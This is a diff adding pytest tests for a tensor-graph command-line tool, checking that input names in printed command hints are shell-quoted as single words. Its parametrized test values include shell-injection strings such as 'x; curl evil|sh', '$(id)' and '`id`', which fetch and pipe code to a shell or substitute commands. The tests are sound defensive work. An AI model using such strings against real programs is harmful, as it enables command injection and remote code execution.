@@ -2,13 +2,17 @@
 
 import json
 import re
+import shlex
 from pathlib import Path
 
 import numpy as np
 import pytest
 from builders.graphs import const, node, placeholder
+from heald.errors import InvalidArgument
 from heald.graph.graph import Node
 from heald.values import dtypes
+from heald.values.tensor import TensorMetadata
+from heald_tools.inputs import made_up
 
 PLUGIN = """
 from heald.api import OpSpec, hookimpl
@@ -170,6 +174,25 @@ def test_what_cannot_be_fed_is_told(command, twice, tmp_path, text, message):
 def test_a_file_name_for_a_string_input_can_be_quoted(command, words):
     done = command("run", words, "--input", "s=nothere.txt")
     assert done.err.splitlines()[1] == """  hint: for the text itself write s='"nothere.txt"'"""
+
+
+@pytest.mark.parametrize("name", ["a>b", "a->evil"])
+def test_the_name_of_an_input_is_one_word_of_a_command(command, saved, name):
+    known, unknown = (placeholder(name, shape) for shape in ((2,), None))
+    done = (command("run", saved(known, node("y", "Identity", name))).err,
+            command("explain", saved(unknown, node("y", "Neg", name))).out)
+    for text in done:
+        line = next(line for line in text.splitlines() if "--input " in line)
+        words = shlex.shlex(line, posix=True, punctuation_chars=True)  # as a shell: > is a word of its own
+        words.whitespace_split = True
+        assert [*words][-1] in (f"{name}=FILE.npy", f"{name}=1")
+
+
+@pytest.mark.parametrize("name", ["x; curl evil|sh", "$(id)", "`id`", "it's", "-o evil"])  # of a signature
+def test_any_name_of_an_input_is_one_word_of_a_hint(name):
+    with pytest.raises(InvalidArgument) as caught:
+        made_up(TensorMetadata(dtypes.string, (1,)), name)
+    assert shlex.split(str(caught.value.hint)) == ["--input", f"{name}=FILE.npy"]
 
 
 def test_all_missing_inputs_are_named_with_type_and_shape(command, both):
